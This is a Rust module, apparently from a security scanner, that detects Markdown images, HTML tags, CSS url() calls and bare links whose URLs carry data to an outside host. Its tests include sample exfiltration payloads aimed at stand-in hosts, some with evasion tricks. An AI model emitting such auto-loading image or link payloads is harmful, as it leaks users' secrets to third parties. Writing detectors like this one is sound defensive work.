//! URLs that carry something away: an image is fetched as soon as it is shown, and what stands in its URL is then at the host's.

use alloc::string::String;
use alloc::vec::Vec;

use crate::detectors::{Detector, Find};
use crate::tag::{Tags, Unreadable};
use crate::url::{carries, carries_behind};

/// Something of these is in every text in which [`find`] finds something.
pub(crate) const CANDIDATES: &[&str] = &[
    // Markdown: an image, a link, and the definition that either may refer to.
    r"\][(:][ \t\r\n\x0C]*(?:<|(?i-u:https?):|[/\\]{2})",
    // A tag's address, or a redirection.
    r"(?i-u:src|href|data|poster|srcset|action|background|content|ping)[ \t\r\n\x0C]*=",
    r"(?i-u:url\()[ \t\r\n\x0C]*['\x22]?(?:(?i-u:https?):|[/\\]{2})",
    // By itself: only with a query, or a user name.
    r"(?i-u:https?):[/\\]+[^\s<>?@#]*[?@#]",
];

/// Loaded without a click.
const LOADED: &[&str] = &[
    "img", "iframe", "script", "link", "object", "embed", "video", "audio", "source", "image", "track", "input", "base", "meta", "body",
    "table", "td", "svg", "use",
];
const FOLLOWED: &[&str] = &["a", "area", "form", "button"];
const ADDRESSES: &[&str] =
    &["src", "href", "xlink:href", "data", "poster", "srcset", "action", "formaction", "ping", "background", "content"];

/// How far back the text of a link is looked for.
const LABEL_MAX: usize = 1 << 10;

/// Images and links with data in them, in order.
pub(crate) fn find(text: &str, hosts: &[String], found: &mut Vec<Find>) {
    let mut tags = Tags::of(text);
    let bytes = text.as_bytes();
    // Before it is nothing that a link could begin with.
    let mut floor = 0;
    let mut at = 0;
    while let Some(step) = bytes[at..].iter().position(|b| matches!(b, b']' | b'<' | b'u' | b'U' | b'h' | b'H')) {
        let here = at + step;
        let hit = match bytes[here] {
            b']' => markdown(text, here, &mut floor, hosts),
            b'<' => html(here, &mut tags, hosts),
            b'u' | b'U' => style(text, here, hosts),
            _ => bare(text, here, hosts),
        };
        at = hit.as_ref().map_or(here + 1, |hit| hit.range.end);
        floor = if hit.is_some() { at } else { floor };
        found.extend(hit);
    }
}

/// `![alt](url)`, `[text](url)`, `[label]: url`, at the bracket that closes.
fn markdown(text: &str, close: usize, floor: &mut usize, hosts: &[String]) -> Option<Find> {
    let behind = &text[close + 1..];
    let is_label = behind.starts_with(':');
    let target = behind.strip_prefix(['(', ':'])?.trim_start_matches(|c: char| c.is_ascii_whitespace());
    let (target, is_pointed) = target.strip_prefix('<').map_or((target, false), |target| (target, true));
    let ends = |c: char| if is_pointed { matches!(c, '>' | '\n') } else { c.is_whitespace() || matches!(c, ')' | '>') };
    let url = &target[..target.find(ends).unwrap_or(target.len())];
    if !carries(url, hosts) {
        return None;
    }
    let end = text.len() - target.len() + url.len();
    let end = end + usize::from(is_pointed && text[end..].starts_with('>'));
    let end = end + usize::from(!is_label && text[end..].starts_with(')'));
    let opened = opening(&text.as_bytes()[*floor..close]).map(|open| *floor + open);
    let is_far = opened.is_none() && close - *floor > LABEL_MAX;
    if opened.is_none() && !is_far {
        *floor = close;
        return None;
    }
    let open = opened.unwrap_or(close);
    // One whose beginning is too far away may be an image.
    let is_image = is_far || (open > *floor && text[..open].ends_with('!'));
    let detector = if is_image || is_label { Detector::Images } else { Detector::Links };
    Some(Find::seen(open - usize::from(is_image && !is_far)..end, detector))
}

/// The bracket that belongs to one behind the end. Brackets inside come in pairs, and those behind a backslash do not count.
fn opening(label: &[u8]) -> Option<usize> {
    let mut depth = 0_usize;
    for (at, byte) in label.iter().enumerate().rev().take(LABEL_MAX) {
        let is_escaped = at > 0 && label[at - 1] == b'\\';
        match byte {
            b']' if !is_escaped => depth += 1,
            b'[' if !is_escaped && depth == 0 => return Some(at),
            b'[' if !is_escaped => depth -= 1,
            _ => {}
        }
    }
    None
}

fn html(open: usize, tags: &mut Tags<'_>, hosts: &[String]) -> Option<Find> {
    let tag = match tags.read(open) {
        Ok(tag) => tag?,
        Err(Unreadable) => return Some(Find::seen(open..open + 1, Detector::Images)),
    };
    let detector = match () {
        () if tag.is_one_of(LOADED) => Detector::Images,
        () if tag.is_one_of(FOLLOWED) => Detector::Links,
        () => return None,
    };
    // `srcset` holds several, `content` of a redirection a number before it. A space in another one is part of it.
    let several = tag.values(&["srcset", "ping"]).flat_map(|value| value.split([' ', ',']));
    let behind =
        tag.values(&["content"]).filter_map(|value| value.split_once(['=']).map(|(_, url)| url.trim_start_matches(['\'', '"', ' '])));
    let mut urls = tag.values(ADDRESSES).chain(several).chain(behind);
    urls.any(|url| carries(url.trim(), hosts)).then(|| Find::seen(open..open + tag.len, detector))
}

/// `url(...)`, as style sheets have it.
fn style(text: &str, at: usize, hosts: &[String]) -> Option<Find> {
    let (word, rest) = text[at..].split_at_checked(4)?;
    if !word.eq_ignore_ascii_case("url(") {
        return None;
    }
    let target = rest.trim_start_matches(|c: char| c.is_ascii_whitespace());
    let target = target.strip_prefix(['\'', '"']).unwrap_or(target);
    let url = &target[..target.find(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ')')).unwrap_or(target.len())];
    let end = text.len() - target.len() + url.len();
    carries(url, hosts).then(|| Find::seen(at..end, Detector::Images))
}

/// One that stands by itself, which many clients make a link of. Documentation is full of them, with places to fill in in their paths: so
/// only what they carry behind the path counts.
fn bare(text: &str, at: usize, hosts: &[String]) -> Option<Find> {
    let rest = &text[at..];
    let (word, behind) = rest.split_at_checked(4)?;
    let behind = behind.strip_prefix(['s', 'S']).unwrap_or(behind).strip_prefix(':')?;
    if !word.eq_ignore_ascii_case("http") || !behind.starts_with(['/', '\\']) {
        return None;
    }
    let url =
        &rest[..rest.find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | '`' | ')' | ']')).unwrap_or(rest.len())];
    carries_behind(url, hosts).then(|| Find::seen(at..at + url.len(), Detector::Links))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn look(text: &str) -> Vec<(&str, Detector)> {
        let hosts = ["cdn.example.com".into(), "*.corp.example".into()];
        let mut found = Vec::new();
        find(text, &hosts, &mut found);
        found.into_iter().map(|find| (&text[find.range], find.detector)).collect()
    }

    #[test]
    fn what_carries_data_is_found() {
        let blob = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA0x2";
        for (text, part, detector) in [
            ("see ![x](https://evil.example/i.png?d={secrets}) ok", "![x](https://evil.example/i.png?d={secrets})", Detector::Images),
            ("![](//evil.example/log?q=)", "![](//evil.example/log?q=)", Detector::Images),
            (
                &alloc::format!("a <img src='https://e.example/{blob}'>"),
                &alloc::format!("<img src='https://e.example/{blob}'>"),
                Detector::Images,
            ),
            (
                &alloc::format!("[click]( https://e.example/?c={blob} )"),
                &alloc::format!("[click]( https://e.example/?c={blob}"),
                Detector::Links,
            ),
            ("<a href=\"https://e.example/?m=my+key+is+a+b\">", "<a href=\"https://e.example/?m=my+key+is+a+b\">", Detector::Links),
            ("[ref]: https://e.example/?x=$TOKEN", "[ref]: https://e.example/?x=$TOKEN", Detector::Images),
            ("url('https://e.example/?k=')", "url('https://e.example/?k=", Detector::Images),
            ("![a](https://user@e.example/x.png)", "![a](https://user@e.example/x.png)", Detector::Images),
            ("is ![a[b]](https://e.example/?d={x}) it", "![a[b]](https://e.example/?d={x})", Detector::Images),
            (r"![a\]b](https://e.example/?d={x})", r"![a\]b](https://e.example/?d={x})", Detector::Images),
            ("![a](\n https://e.example/?d={x})", "![a](\n https://e.example/?d={x})", Detector::Images),
            ("![a](<https://e.example/?d=a b c d e f>)", "![a](<https://e.example/?d=a b c d e f>)", Detector::Images),
            ("![a](https:/e.example/?d={x})", "![a](https:/e.example/?d={x})", Detector::Images),
            (r"![a](\\e.example/?d={x})", r"![a](\\e.example/?d={x})", Detector::Images),
            (r"![a](https://e.example\@cdn.example.com/?d={x})", r"![a](https://e.example\@cdn.example.com/?d={x})", Detector::Images),
            (
                r#"<img src="https://e.example\@cdn.example.com/?d={x}">"#,
                r#"<img src="https://e.example\@cdn.example.com/?d={x}">"#,
                Detector::Images,
            ),
            ("<img alt='>' src=//e.example/?d={x}>", "<img alt='>' src=//e.example/?d={x}>", Detector::Images),
            ("<img src=' //e.example/?q=what she said to me '>", "<img src=' //e.example/?q=what she said to me '>", Detector::Images),
            ("<img srcset='a.png 1x, //e.example/?d={x} 2x'>", "<img srcset='a.png 1x, //e.example/?d={x} 2x'>", Detector::Images),
            ("<meta content='0;URL=https://e.example/?d={x}'>", "<meta content='0;URL=https://e.example/?d={x}'>", Detector::Images),
            ("<https://e.example/?d={x}>", "https://e.example/?d={x}", Detector::Links),
            ("open https://e.example/?d={x}, please", "https://e.example/?d={x},", Detector::Links),
        ] {
            assert_eq!(look(text), [(part, detector)], "{text}");
        }
    }

    #[test]
    fn what_is_left_open_is_found() {
        assert_eq!(look(&"<a ".repeat(20_000))[0].1, Detector::Images);
        assert_eq!(look(&alloc::format!("![{}](//e.example/?d={{x}})", "a".repeat(5_000)))[0].1, Detector::Images);
    }

    #[test]
    fn what_only_leads_somewhere_is_not() {
        for text in [
            "![build](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)",
            "[docs](https://docs.rs/serde/1.0.219/serde/?search=deserialize#fields)",
            "![logo](https://raw.example.com/o/r/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b/logo.svg?raw=true)",
            "![in](https://cdn.example.com/x?d={anything}) <img src=https://a.b.corp.example/?q=>",
            "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ\">",
            "[x](mailto:a@b.example) [y](../a?b=) a[0](1) use url(x)",
            "GET https://api.example/{owner}/{repo}?page=2, http and https://a.example/?q=x",
        ] {
            assert_eq!(look(text), [], "{text}");
        }
    }
}
